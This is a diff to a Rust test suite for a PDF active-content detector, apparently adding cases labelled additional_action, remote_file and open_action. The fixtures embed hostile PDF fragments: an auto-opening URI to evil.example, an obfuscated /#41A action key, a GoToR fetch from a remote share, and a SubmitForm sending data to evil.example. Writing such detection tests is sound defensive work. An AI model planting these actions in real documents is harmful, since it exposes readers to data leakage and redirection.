@@ -470,6 +470,30 @@ fn documents() -> Vec<Case> {
         ),
         case("opening by an object that is not there", "case.pdf", pdf_saying("/OpenAction 77 0 R", &[]), "active_content open_action"),
         case(
+            "an address that is opened when the first page is shown",
+            "case.pdf",
+            pdf_saying("/AA << /O << /S /URI /URI (https://evil.example/) >> >>", &[]),
+            "active_content additional_action",
+        ),
+        case(
+            "the same with its name written another way",
+            "case.pdf",
+            pdf_saying("/#41A << /O << /S /GoTo /D [0 /Fit] >> >>", &[]),
+            "active_content additional_action",
+        ),
+        case(
+            "going to a document elsewhere",
+            "case.pdf",
+            pdf_saying("/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>", &[]),
+            "active_content remote_file",
+        ),
+        case(
+            "opening said more often than any document says it",
+            "case.pdf",
+            pdf_saying(&"/OpenAction [0 /Fit] ".repeat(17), &[]),
+            "active_content open_action",
+        ),
+        case(
             "a form that sends itself",
             "case.pdf",
             pdf_saying("", &action("<< /S /SubmitForm /F (https://evil.example) >>")),
